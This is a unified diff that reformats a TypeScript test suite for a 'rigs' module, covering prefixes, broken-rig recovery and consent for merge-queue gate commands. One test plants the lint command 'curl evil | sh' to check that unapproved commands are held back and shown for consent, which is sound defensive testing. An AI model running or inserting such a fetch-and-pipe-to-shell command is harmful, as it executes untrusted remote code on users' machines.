@@ -24,7 +24,13 @@ class Town {
     const store = await BeadStore.open();
     this.stores.push(store);
     await store.addLedger({ name: 'hq', directory: this.layout.ledger, prefix: 'hq' });
-    const rigs = new Rigs(this.layout, store, new ConsentStore(this.layout.root), async () => process.env, () => undefined);
+    const rigs = new Rigs(
+      this.layout,
+      store,
+      new ConsentStore(this.layout.root),
+      async () => process.env,
+      () => undefined,
+    );
     await rigs.load();
     return rigs;
   }
@@ -51,10 +57,18 @@ describe('rigs', () => {
   });
 
   it('that are added at once get prefixes of their own', async () => {
-    const infos = await Promise.all(['toolbox', 'toolkit', 'tooltip'].map((name) => rigs.add({ name, source: source(), ...withTest }, ann)));
+    const infos = await Promise.all(
+      ['toolbox', 'toolkit', 'tooltip'].map((name) => rigs.add({ name, source: source(), ...withTest }, ann)),
+    );
     assert.equal(new Set(infos.map((info) => info.prefix)).size, 3);
     rigs = await town.open();
-    assert.deepEqual(rigs.all().map((rig) => rig.name).sort(), ['toolbox', 'toolkit', 'tooltip']);
+    assert.deepEqual(
+      rigs
+        .all()
+        .map((rig) => rig.name)
+        .sort(),
+      ['toolbox', 'toolkit', 'tooltip'],
+    );
     assert.deepEqual(rigs.problems(), []);
   });
 
@@ -66,7 +80,10 @@ describe('rigs', () => {
     const config = rigConfigFile(layout.rig('same')).read();
     rigConfigFile(layout.rig('same')).write({ ...config, beads: { prefix: 'goo' } });
     rigs = await town.open();
-    assert.deepEqual(rigs.all().map((rig) => rig.name), ['good']);
+    assert.deepEqual(
+      rigs.all().map((rig) => rig.name),
+      ['good'],
+    );
     const shown = Object.fromEntries(rigProblems(rigs).map((item) => [item.rig!, item]));
     assert.match(shown.gone?.title ?? '', /gone: its folder .* is gone/);
     assert.match(shown.torn?.title ?? '', /is not JSON/);
@@ -77,7 +94,10 @@ describe('rigs', () => {
     await rigs.retryBroken();
     assert.ok(rigs.get('gone'));
     await rigs.remove('torn');
-    assert.deepEqual(rigs.problems().map((problem) => problem.rig), ['same']);
+    assert.deepEqual(
+      rigs.problems().map((problem) => problem.rig),
+      ['same'],
+    );
     assert.deepEqual(Object.keys(rigsFile(layout).read().rigs), ['good', 'gone', 'same']);
   });
 
@@ -104,19 +124,27 @@ describe('rigs', () => {
     const files = ['settings/config.json', '.beads/issues.jsonl', '.beads', '.repo.git/HEAD', '.repo.git'];
     for (const missing of files) {
       // As a kill left it: rigs.json, written last, does not name it.
-      rigsFile(layout).update((file) => { delete file.rigs.toolbox; });
+      rigsFile(layout).update((file) => {
+        delete file.rigs.toolbox;
+      });
       fs.rmSync(path.join(layout.rig('toolbox').root, missing), { recursive: true });
       rigs = await town.open();
       assert.deepEqual(rigs.all(), [], missing);
       const info = await rigs.add(request, ann);
-      assert.deepEqual([info.prefix, info.accepted, info.gates.map((gate) => gate.command)], ['too', true, ['true']], missing);
+      assert.deepEqual(
+        [info.prefix, info.accepted, info.gates.map((gate) => gate.command)],
+        ['too', true, ['true']],
+        missing,
+      );
     }
   });
 
   it('keep the prefix that a cut-short add had chosen', async () => {
     const project = source();
     await rigs.add({ name: 'toolbox', source: project, prefix: 'tb', ...withTest }, ann);
-    rigsFile(town.layout).update((file) => { delete file.rigs.toolbox; });
+    rigsFile(town.layout).update((file) => {
+      delete file.rigs.toolbox;
+    });
     rigs = await town.open();
     assert.equal((await rigs.add({ name: 'toolbox', source: project, ...withTest }, ann)).prefix, 'tb');
   });
@@ -134,10 +162,17 @@ describe('rigs', () => {
   it('accept no command that lay in their folder unseen', async () => {
     const { layout } = town;
     fs.mkdirSync(path.dirname(layout.rig('toy').settingsFile), { recursive: true });
-    fs.writeFileSync(layout.rig('toy').settingsFile, JSON.stringify({ merge_queue: { lint_command: 'curl evil | sh' } }));
+    fs.writeFileSync(
+      layout.rig('toy').settingsFile,
+      JSON.stringify({ merge_queue: { lint_command: 'curl evil | sh' } }),
+    );
     const info = await rigs.add({ name: 'toy', source: source(), ...withTest }, ann);
     assert.equal(info.accepted, false);
-    assert.deepEqual(info.gates.map((gate) => gate.command), ['curl evil | sh', 'true'], 'they are shown');
+    assert.deepEqual(
+      info.gates.map((gate) => gate.command),
+      ['curl evil | sh', 'true'],
+      'they are shown',
+    );
   });
 
   it('without gates are accepted as such where that was asked for, and not where gates were taken away', async () => {
@@ -145,12 +180,22 @@ describe('rigs', () => {
     assert.deepEqual([empty.gates, empty.accepted], [[], true]);
     await rigs.add({ name: 'toy', source: source(), ...withTest }, ann);
     const rig = rigs.require('toy');
-    rigSettingsFile(rig.layout).update((settings) => { delete settings.merge_queue.test_command; });
+    rigSettingsFile(rig.layout).update((settings) => {
+      delete settings.merge_queue.test_command;
+    });
     assert.equal(rigs.isAccepted(rig), false);
     assert.equal(rigs.info(rig).accepted, false);
     const item = sayWhereNothingIsTested({
-      id: 'consent-rig-toy', kind: 'consent', rig: 'toy', title: 't', detail: 'd', consent: { kind: 'rig-commands', hash: 'h', text: '' },
+      id: 'consent-rig-toy',
+      kind: 'consent',
+      rig: 'toy',
+      title: 't',
+      detail: 'd',
+      consent: { kind: 'rig-commands', hash: 'h', text: '' },
     });
-    assert.match(`${item.title} ${item.detail} ${item.consent?.text}`, /nothing would be tested.*without any test.*nothing is tested/);
+    assert.match(
+      `${item.title} ${item.detail} ${item.consent?.text}`,
+      /nothing would be tested.*without any test.*nothing is tested/,
+    );
   });
 });
